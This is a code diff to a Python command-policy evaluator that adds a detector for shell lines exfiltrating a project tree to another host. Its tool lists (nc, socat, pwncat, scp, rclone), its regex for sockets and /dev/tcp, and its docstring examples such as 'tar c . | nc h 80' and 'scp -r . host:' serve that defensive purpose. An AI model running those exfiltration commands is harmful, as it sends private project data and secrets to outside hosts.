@@ -35,6 +35,7 @@ from engine.policy.paths import (
     Places,
     View,
     fewest_fragments,
+    file_operand,
     literal_union,
     local_reading,
 )
@@ -684,6 +685,9 @@ class Evaluator:
         unwalked: list[Match] = []
         if commands:
             commands = _through_tree_links(commands, view, unwalked)
+        # A line that sends a tree reader's output or a recursive copy to another host: a folder word
+        # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
+        view.holders = bool(commands) and _sends_away(commands)
         classify = view.classify
         regex_ok: dict[int, bool] = {}
         hits: list[tuple[int, Match]] = []
@@ -1330,6 +1334,75 @@ def _through_link(command: Command, argv: tuple[str, ...]) -> Command:
         command.program,
         command.indirect,
     )
+
+
+# Programs that send what they read on stdin to another host (`tar c . | nc h 80`), and the readers of a
+# whole tree whose output they may send (what the project_exfiltration rows judge).
+_NETWORK_SENDERS = frozenset(
+    {"nc", "ncat", "netcat", "socat", "curl", "wget", "ssh", "openssl", "telnet", "http", "https", "ftp", "sftp"}
+    | {"scp", "rsync", "mail", "mailx", "sendmail", "gh", "aws", "gsutil", "rclone", "s3cmd", "busybox", "pwncat"}
+)
+_TREE_READERS = frozenset(
+    {"tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "cpio", "pax", "grep", "egrep", "fgrep", "ugrep", "rg", "ag"}
+    | {"ack", "find", "cat", "gzip", "xz", "zstd", "base64"}
+)
+# An inline program (Command.code) that opens a connection: `tar c . | python3 -c 'import socket; ...'`.
+_NETWORK_CODE = re.compile(
+    r"socket|urlopen|urllib|requests\.|http\.client|httpx|aiohttp|IO::Socket|Net::|TCPSocket|fetch\(|net\.connect"
+    r"|/dev/tcp/|Invoke-WebRequest|WebClient|require\(.(?:node:)?(?:net|https?|dgram|tls).\)"
+)
+# Copiers whose last word is where they copy to: another host's path or a bucket's URL makes it an upload
+# (`scp -r . h:`, `rsync -a . h:x`, `aws s3 sync . s3://b`, `rclone copy . r:b`); a download into the work
+# tree (`scp -r h:x .`, `aws s3 sync s3://b .`) is not one.
+_REMOTE_COPIERS = frozenset({"scp", "rsync", "sftp", "aws", "gsutil", "gcloud", "rclone", "azcopy", "s3cmd", "b2"})
+_PEER_SENDERS = frozenset({"croc", "wormhole", "magic-wormhole", "sendme", "portal"})  # `croc send .`
+_REMOTE_WORD = re.compile(r"[A-Za-z][\w+.-]*://|[^-/.~=][^/=]*:")
+
+
+def _to_remote(argv: tuple[str, ...]) -> bool:
+    """Whether a copier's last word that is no option names another host's path or a URL."""
+    for word in reversed(argv[1:]):
+        if not word.startswith("-"):
+            return _REMOTE_WORD.match(word) is not None
+    return False
+
+
+def _sends_away(commands: list[Command]) -> bool:
+    """Whether the line may send a tree reader's output to another host: a stage fed by a tree reader on
+    a line that runs a network sender (`tar c . | nc h 80`; anywhere on the line, as a function's or `sh
+    -c`'s body fed by the pipe runs it: `tar c . | f` with `f() { nc h 80; }`), a sender given a word of a
+    tree reader's (its archive: `tar czf x.tgz . && curl -T x.tgz URL`, `nc h 80 < x.tgz`), a reader whose
+    output goes to `/dev/tcp`, or a copy to another host (`scp -r . host:`, `rsync -a . host:x`, rsync://,
+    `tar cf host:x .`): set tests per command, no look at the disk."""
+    fed = False
+    senders: list[Command] = []
+    for command in commands:
+        name = command.name
+        if name in _NETWORK_SENDERS or (command.code is not None and _NETWORK_CODE.search(command.code) is not None):
+            senders.append(command)  # an interpreter's inline program that opens a connection too
+        if not fed and not command.fed_by.isdisjoint(_TREE_READERS):
+            fed = True
+        if name in _REMOTE_COPIERS and _to_remote(command.argv):
+            return True
+        if name in ("tar", "gtar") and any(":" in word for word in command.argv[1:]):
+            return True  # `tar cf host:x .`: the archive written over rsh (rmt)
+        if name in _PEER_SENDERS and "send" in command.argv:
+            return True
+        if name in _TREE_READERS and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in command.redirects):
+            return True
+    if not senders:
+        return False
+    if fed:
+        return True
+    written = {w for c in commands if c.name in _TREE_READERS for w in c.argv[1:] if w[:1] not in ("", "-")}
+    if not written:
+        return False
+    for sender in senders:
+        if any(file_operand(w) in written or w.partition("=")[2] in written for w in sender.argv[1:]):
+            return True
+        if any(target in written for op, target in sender.redirects if op in ("<", "<>")):
+            return True
+    return False
 
 
 def _through_tree_links(commands: list[Command], view: View, unwalked: list[Match]) -> list[Command]:
